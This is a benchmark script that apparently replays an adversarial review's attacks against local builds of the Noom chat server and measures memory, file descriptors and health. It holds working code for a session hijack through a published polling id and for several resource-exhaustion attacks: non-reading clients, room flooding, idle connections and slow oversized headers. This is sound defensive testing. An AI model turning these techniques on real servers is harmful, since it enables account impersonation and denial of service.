// The attacks of an adversarial review, replayed against one or more Noom binaries side by side,
// each on a server of its own on loopback: what each attack costs the server (memory, descriptors)
// and whether it worked. The figures in docs/reliability.md ("Attacks that worked before").
//
//   node bench/attacks.mjs [--bin target/release/noom] [--bin another/noom …]
//
// Each server starts with a soft limit of 1,024 open files (a common default) and
// `--trusted-proxies ''`, so that loopback counts as a client like any other. Needs the npm
// packages of tests/ (the test command installs them).
import { spawn } from "node:child_process";
import { readFileSync, readdirSync } from "node:fs";
import { createRequire } from "node:module";
import net from "node:net";
import { parseArgs } from "node:util";

const require = createRequire(new URL("../tests/package.json", import.meta.url));
const { io } = require("socket.io-client");
const WebSocket = require("ws");

const { values } = parseArgs({ options: { bin: { type: "string", multiple: true } } });
const bins = values.bin ?? ["target/release/noom"];
const sleep = (ms) => new Promise((resolve) => setTimeout(resolve, ms));

async function start(bin, args = []) {
  const line = `ulimit -Sn 1024; exec ${bin} --port 0 --trusted-proxies '' ${args.join(" ")}`;
  const proc = spawn("bash", ["-c", line], { stdio: ["ignore", "pipe", "ignore"] });
  const url = await new Promise((resolve, reject) => {
    proc.stdout.on("data", (d) => {
      const m = String(d).match(/listening on (\S+)/);
      if (m) resolve(m[1]);
    });
    proc.on("exit", (code) => reject(new Error(`${bin} exited with ${code}`)));
  });
  const mb = () => Number(readFileSync(`/proc/${proc.pid}/status`, "utf8").match(/VmRSS:\s+(\d+)/)[1]) / 1024;
  const fds = () => readdirSync(`/proc/${proc.pid}/fd`).length;
  const healthy = async () => {
    try {
      return (await fetch(`${url}/healthz`, { signal: AbortSignal.timeout(3000) })).status === 200;
    } catch {
      return false;
    }
  };
  return { url, port: Number(new URL(url).port), mb, fds, healthy, stop: () => proc.kill("SIGKILL") };
}

const connected = (socket) => new Promise((resolve) => socket.on("connect", resolve));

/** Someone in a room POSTs an event to the long-polling session whose id the room shows of another. */
async function takeover(bin) {
  const server = await start(bin);
  try {
    const victim = io(server.url, { transports: ["polling"], auth: { protocol: "noom/1" } });
    await connected(victim);
    await victim.emitWithAck("room:join", { room: "r", nickname: "Victim" });
    const attacker = io(server.url, { transports: ["websocket"], auth: { protocol: "noom/1" } });
    await connected(attacker);
    const joined = await attacker.emitWithAck("room:join", { room: "r", nickname: "Mallory" });
    const id = joined.participants.find((p) => p.nickname === "Victim").id;
    let delivered = false;
    attacker.on("chat:message", (m) => (delivered = m.sender.nickname === "Victim"));
    const post = await fetch(`${server.url}/socket.io/?EIO=4&transport=polling&sid=${id}`, {
      method: "POST",
      body: '42["chat:send",{"room":"r","text":"sent as the victim"}]',
    });
    await sleep(500);
    victim.close();
    attacker.close();
    return `POST answered ${post.status}; ${delivered ? "delivered as the victim's" : "nothing delivered"}`;
  } finally {
    server.stop();
  }
}

/** Four raw WebSocket clients that never read ask 500 times (50 a second) to enter rooms with full histories. */
async function nonReading(bin) {
  const server = await start(bin, ["--chat-rate", "1000", "--chat-burst", "1000", "--event-rate", "1000"]);
  try {
    const full = "😀".repeat(2000);
    const rooms = ["a", "b"];
    for (const room of rooms) {
      const keeper = io(server.url, { transports: ["websocket"], auth: { protocol: "noom/1" } });
      await connected(keeper);
      await keeper.emitWithAck("room:join", { room });
      for (let i = 0; i < 50; i++) await keeper.emitWithAck("chat:send", { room, text: full });
    }
    const before = server.mb();
    const attackers = [];
    for (let k = 0; k < 4; k++) {
      const ws = new WebSocket(`${server.url.replace(/^http/, "ws")}/socket.io/?EIO=4&transport=websocket`);
      await new Promise((resolve) => ws.once("open", resolve));
      ws.on("error", () => {});
      ws.send('40{"protocol":"noom/1"}');
      ws._socket.pause();
      attackers.push(ws);
    }
    for (let i = 0; i < 500; i++) {
      for (const ws of attackers) ws.send(`42${i}${JSON.stringify(["room:join", { room: rooms[i % 2] }])}`);
      await sleep(20);
    }
    await sleep(2000);
    return `${before.toFixed(1)} MB → ${server.mb().toFixed(1)} MB`;
  } finally {
    server.stop();
  }
}

/** Ten raw WebSocket clients enter a room and stop reading while someone posts 24 MB of chat there. */
async function busyRoom(bin) {
  const server = await start(bin, ["--chat-rate", "1000", "--chat-burst", "1000", "--event-rate", "1000"]);
  try {
    const full = "😀".repeat(2000);
    const keeper = io(server.url, { transports: ["websocket"], auth: { protocol: "noom/1" } });
    await connected(keeper);
    await keeper.emitWithAck("room:join", { room: "busy", nickname: "Keeper" });
    let left = 0;
    keeper.on("participant:left", () => left++);
    const sleepers = [];
    for (let k = 0; k < 10; k++) {
      const ws = new WebSocket(`${server.url.replace(/^http/, "ws")}/socket.io/?EIO=4&transport=websocket`);
      await new Promise((resolve) => ws.once("open", resolve));
      ws.on("error", () => {});
      const ready = new Promise((resolve) => ws.on("message", (d) => String(d).startsWith("40") && resolve()));
      ws.send('40{"protocol":"noom/1"}');
      await ready;
      ws.send(`420${JSON.stringify(["room:join", { room: "busy", nickname: `Sleeper ${k}` }])}`);
      sleepers.push(ws);
    }
    await sleep(500);
    for (const ws of sleepers) ws._socket.pause();
    const before = server.mb();
    let peak = before;
    for (let i = 0; i < 3000; i += 50) {
      await Promise.all(Array.from({ length: 50 }, () => keeper.emitWithAck("chat:send", { room: "busy", text: full })));
      peak = Math.max(peak, server.mb());
    }
    await sleep(1000);
    peak = Math.max(peak, server.mb());
    return `${before.toFixed(1)} MB → ${peak.toFixed(1)} MB at most; ${left} of 10 closed by the time it ended`;
  } finally {
    server.stop();
  }
}

/** Connections from one address that send nothing (`idle`) or one header of 380 KB, slowly (`headers`). */
async function connections(bin, kind) {
  const server = await start(bin);
  try {
    const count = kind === "headers" ? 900 : 1100;
    const before = { fds: server.fds(), mb: server.mb() };
    const sockets = [];
    for (let i = 0; i < count; i++) {
      const s = net.connect({ host: "127.0.0.1", port: server.port, localAddress: "127.0.0.5" });
      s.on("error", () => {});
      if (kind === "headers") {
        s.on("connect", () => {
          s.write("GET / HTTP/1.1\r\nHost: localhost\r\nX-Big: ");
          const chunk = "x".repeat(16 * 1024);
          let sent = 0;
          const more = () => {
            while (sent < 380 * 1024 && s.write(chunk)) sent += chunk.length;
          };
          more();
          s.on("drain", more);
        });
      }
      sockets.push(s);
    }
    await sleep(3000);
    const soon = { fds: server.fds(), mb: server.mb(), healthy: await server.healthy() };
    await sleep(12_000);
    const later = { fds: server.fds(), mb: server.mb(), healthy: await server.healthy() };
    for (const s of sockets) s.destroy();
    const show = (at) => `${at.fds} descriptors, ${at.mb.toFixed(1)} MB${at.healthy === undefined ? "" : `, /healthz ${at.healthy ? "answers" : "does not answer"}`}`;
    return `before ${show(before)}; at 3 s ${show(soon)}; at 15 s ${show(later)}`;
  } finally {
    server.stop();
  }
}

const attacks = [
  ["a published id used as a long-polling session", takeover],
  ["4 non-reading clients asking for 400 KB histories, 500 times each", nonReading],
  ["10 non-reading clients in a room where 24 MB of chat is posted", busyRoom],
  ["1,100 idle connections from one address", (bin) => connections(bin, "idle")],
  ["900 connections sending a 380 KB header slowly", (bin) => connections(bin, "headers")],
];

console.log(`| attack | ${bins.join(" | ")} |`);
console.log(`|---|${bins.map(() => "---").join("|")}|`);
for (const [what, run] of attacks) {
  const results = [];
  for (const bin of bins) results.push(await run(bin).catch((e) => `failed: ${e.message}`));
  console.log(`| ${what} | ${results.join(" | ")} |`);
}
process.exit(0);
